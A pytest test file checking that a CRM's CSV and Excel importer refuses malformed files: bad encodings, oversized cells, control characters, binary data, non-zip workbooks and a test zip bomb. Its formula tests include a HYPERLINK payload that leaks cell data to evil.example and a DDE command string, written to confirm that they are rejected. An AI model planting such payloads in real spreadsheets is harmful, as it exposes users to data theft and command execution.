"""Malformed import files are refused with where and why, and nothing is written.

Wrong encodings, missing columns, megabyte cells, spreadsheet formulas, binary data under a .csv
name, workbooks that are not zips or unpack to far more than a spreadsheet: each gets a message
naming the file (and the row and column where there is one), and the store is left as it was.
Cells starting with "+", "-" or "@" are text and stay text; a formula ("=…") is never imported.
"""
from __future__ import annotations

import io
import random
import zipfile

import pytest

from crm.library.imports.problems import FileRefused, ImportFailed
from crm.library.imports.run import import_chains, import_companies
from graph.cypher import counts
from tests.factories.files import NOW, company, csv_bytes, csv_file, reference_store, xlsx_file

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ROWS = [company(company_id="bosch", present_in="")]


@pytest.fixture
def db(tmp_path):
    """An embedded store with the real districts and a three-link chain."""
    store = reference_store(tmp_path)
    yield store
    store.close()


def refused(store, path, importer=import_companies, **options) -> str:
    """The message of a file refused as a whole; the store must be unchanged."""
    before = counts(store)
    with pytest.raises(FileRefused) as caught:
        importer(store, path, now=NOW, **options)
    assert counts(store) == before, "a refused file wrote something"
    return str(caught.value)


def problems(store, path, importer=import_companies) -> list[str]:
    """The problems of a file refused row by row; the store must be unchanged."""
    before = counts(store)
    with pytest.raises(ImportFailed) as caught:
        importer(store, path, now=NOW)
    assert counts(store) == before, "a refused import wrote something"
    return [str(p) for p in caught.value.problems]


def write(tmp_path, name: str, data: bytes):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def workbook(tmp_path, rows_xml: str, *, shared: str | None = None, name: str = "companies.xlsx"):
    """A minimal .xlsx whose first sheet holds `rows_xml` (<row> elements) as written."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/workbook.xml", f'<workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/'
                      'officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets>'
                      '</workbook>')
        book.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/relationships"><Relationship Id="r1" Target="worksheets/s.xml"/></Relationships>')
        if shared is not None:
            book.writestr("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}"><si><t>{shared}</t></si></sst>')
        book.writestr("xl/worksheets/s.xml", f'<worksheet xmlns="{MAIN}"><sheetData>{rows_xml}</sheetData></worksheet>')
    return write(tmp_path, name, buffer.getvalue())


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER = f'<row r="1">{cell("A1", "company_id")}{cell("B1", "name_en")}</row>'


# Encodings

def test_gbk_bytes_declared_as_utf8_name_the_line_and_the_likely_encoding(db, tmp_path):
    path = write(tmp_path, "companies.csv", csv_bytes(ROWS, encoding="gbk"))
    assert refused(db, path, encoding="utf-8") == ("companies.csv:2: cannot be read as utf-8; it reads as "
                                                   "GB18030/GBK: use --encoding gb18030, or leave --encoding out")


@pytest.mark.parametrize("declared", ["gbk", "gb18030", "GB2312"])
def test_utf8_text_declared_as_gbk_is_refused_rather_than_read_as_other_characters(db, tmp_path, declared):
    path = write(tmp_path, "companies.csv", "company_id,name_zh\r\nbosch,博世\r\n".encode("utf-8"))
    assert "博世".encode("utf-8").decode("gbk", "replace") != "博世"  # what reading it as GBK would store
    assert refused(db, path, encoding=declared) == (f"companies.csv: is UTF-8 text, not {declared}: read as "
                                                    f"{declared} its Chinese would turn into other characters; "
                                                    "leave out --encoding")


def test_a_file_mixing_utf8_and_gbk_lines_names_the_first_foreign_line(db, tmp_path):
    data = csv_bytes(ROWS) + "bosch2,罗伯特,DE\r\n".encode("gbk")
    message = refused(db, write(tmp_path, "companies.csv", data))
    assert message.startswith("companies.csv:3: this line is not UTF-8 although the lines before it are")


def test_a_gbk_file_without_a_declaration_is_still_detected(db, tmp_path):
    report = import_companies(db, csv_file(tmp_path, ROWS, encoding="gbk"), now=NOW)
    assert report.encoding == "gb18030" and report.nodes["Company"]["created"] == 1


# Columns

def test_a_file_without_any_name_or_id_column_is_refused(db, tmp_path):
    found = problems(db, write(tmp_path, "companies.csv", b"country,industry\r\nDE,cars\r\n"))
    assert found[0] == "companies.csv:1: the header needs at least one of: company_id, name_zh, name_en"


def test_a_chains_file_without_link_id_is_refused(db, tmp_path):
    found = problems(db, write(tmp_path, "chains.csv", "chain_id,link_name_zh\r\nnev,电芯\r\n".encode()), import_chains)
    assert "chains.csv:1: the header needs at least one of: link_id" in found


def test_a_short_row_leaves_its_missing_cells_empty_and_extra_cells_are_refused(db, tmp_path):
    short = import_companies(db, write(tmp_path, "companies.csv", b"company_id,name_en,country\r\nx1,Foo\r\n"), now=NOW)
    assert short.nodes["Company"]["created"] == 1
    assert db.read("MATCH (c:Company {id: 'x1'}) RETURN c.country AS country") == [{"country": None}]
    found = problems(db, write(tmp_path, "more.csv", b"company_id,name_en\r\nx2,Bar,DE,extra\r\n"))
    assert found == ["more.csv:2: 2 value(s) beyond the last named column"]


# Huge cells

@pytest.mark.parametrize("column", ["name_en", "aliases", "industry", "present_in"])
def test_a_megabyte_cell_is_refused_with_its_row_and_column(db, tmp_path, column):
    rows = [company(company_id="ok", present_in=""), company(**{"company_id": "big", "present_in": "",
                                                                 column: "A" * 2 ** 20})]
    assert problems(db, csv_file(tmp_path, rows)) == [
        f"companies.csv:3: column {column}: is 1,048,576 characters long; a cell holds at most 2,000"]


def test_a_megabyte_header_cell_is_quoted_short(db, tmp_path):
    path = write(tmp_path, "companies.csv", b"company_id," + b"X" * 2 ** 20 + b"\r\nbosch,1\r\n")
    [problem] = problems(db, path)
    assert problem == 'companies.csv:1: column #2: "' + "x" * 40 + '…" is not a column name'


def test_a_megabyte_cell_in_a_workbook_is_refused_like_one_in_a_csv(db, tmp_path):
    path = workbook(tmp_path, HEADER + f'<row r="2">{cell("A2", "big")}<c r="B2" t="s"><v>0</v></c></row>',
                    shared="B" * 2 ** 20)
    assert problems(db, path) == ["companies.xlsx:2: column name_en: is 1,048,576 characters long; "
                                  "a cell holds at most 2,000"]


# Formulas: refused ("="), or text that stays text ("+", "-", "@")

@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&A1,"Bosch")', "=1+1", "=cmd|' /C calc'!A0"])
def test_a_formula_is_refused_with_its_row_and_column(db, tmp_path, value):
    rows = [company(company_id="ok", present_in=""), company(company_id="f", name_en=value, present_in="")]
    [problem] = problems(db, csv_file(tmp_path, rows))
    assert problem.startswith("companies.csv:3: column name_en: ")
    assert problem.endswith(" is a spreadsheet formula: an import takes values, not formulas "
                            "(type the value itself, or paste values only)")


@pytest.mark.parametrize("value, code", [("博世\x1b[31m", "U+001B"), ("Bosch\x07", "U+0007"), ("a\rb", "U+000D")])
def test_a_cell_with_a_control_character_is_refused_with_its_row_and_column(db, tmp_path, value, code):
    rows = [company(company_id="ok", present_in=""), company(company_id="c", name_en=value, present_in="")]
    [problem] = problems(db, csv_file(tmp_path, rows))
    assert problem.startswith("companies.csv:3: column name_en: contains a control character") and code in problem


@pytest.mark.parametrize("value", ["+86 23 6789 0000", "-", "-2+3", "@bosch", "@SUM(1+1)"])
def test_text_starting_with_plus_minus_or_at_is_stored_exactly_as_text(db, tmp_path, value):
    import_companies(db, csv_file(tmp_path, [company(company_id="t", industry=value, present_in="")]), now=NOW)
    assert db.read("MATCH (c:Company {id: 't'}) RETURN c.industry AS industry") == [{"industry": value}]


def test_a_workbook_formula_without_a_stored_value_is_refused(db, tmp_path):
    rows = [{"company_id": "f", "name_en": "=CONCAT(\"Bo\",\"sch\")"}]
    [problem] = problems(db, xlsx_file(tmp_path, rows))  # openpyxl stores formulas without their value
    assert problem.startswith('companies.xlsx:2: column name_en: "=CONCAT(\\"Bo\\",\\"sch\\")" is a spreadsheet formula')


def test_a_workbook_formula_imports_the_value_excel_stored_for_it(db, tmp_path):
    formula = '<c r="B2" t="str"><f>CONCAT("Bo","sch")</f><v>Bosch</v></c>'
    import_companies(db, workbook(tmp_path, HEADER + f'<row r="2">{cell("A2", "f")}{formula}</row>'), now=NOW)
    assert db.read("MATCH (c:Company {id: 'f'}) RETURN c.name_en AS name") == [{"name": "Bosch"}]


# Binary data and broken workbooks

def test_binary_garbage_named_csv_is_refused_as_not_text(db, tmp_path):
    rng = random.Random(7)
    noise = bytes(rng.randrange(256) for _ in range(20_000))
    assert "holds binary data, not CSV text" in refused(db, write(tmp_path, "companies.csv", noise))
    control = bytes(rng.randrange(1, 32) for _ in range(2_000))
    assert refused(db, write(tmp_path, "other.csv", control)) == ("other.csv: holds binary data, not CSV text; "
                                                                  "export the table as CSV or .xlsx")


def test_a_workbook_named_csv_is_told_to_use_the_xlsx_name(db, tmp_path):
    data = xlsx_file(tmp_path, ROWS).read_bytes()
    assert refused(db, write(tmp_path, "companies.csv", data)) == (
        "companies.csv: is a zip file, not CSV text (an Excel workbook? save it with the .xlsx name)")


@pytest.mark.parametrize("data", [b"company_id,name_en\nbosch,Bosch\n", b"PK\x03\x04" + b"\x00" * 100])
def test_an_xlsx_that_is_not_a_zip_is_refused(db, tmp_path, data):
    assert refused(db, write(tmp_path, "companies.xlsx", data)).startswith("companies.xlsx: not a readable .xlsx")


def test_a_workbook_that_unpacks_to_far_more_than_a_spreadsheet_is_refused_before_it_is_read(db, tmp_path):
    path = workbook(tmp_path, HEADER, shared="A" * (200 * 2 ** 20))  # 200 MB of one letter packs to ~0.2 MB
    assert path.stat().st_size < 2 ** 20
    message = refused(db, path)
    assert message.startswith("companies.xlsx: unpacks to 200 MB from 0.2 MB, far more than a spreadsheet does")


def test_cells_beyond_excels_last_column_or_row_are_refused(db, tmp_path):
    far = workbook(tmp_path, HEADER + f'<row r="2">{cell("ZZZZZZZZ2", "x")}</row>')
    assert refused(db, far) == "companies.xlsx: cell ZZZZZZZZ2 is beyond Excel's last column XFD"
    deep = workbook(tmp_path, HEADER + f'<row r="99999999">{cell("A99999999", "x")}</row>', name="deep.xlsx")
    assert refused(db, deep) == "deep.xlsx: row 99999999 is out of order or beyond Excel's last row 1,048,576"
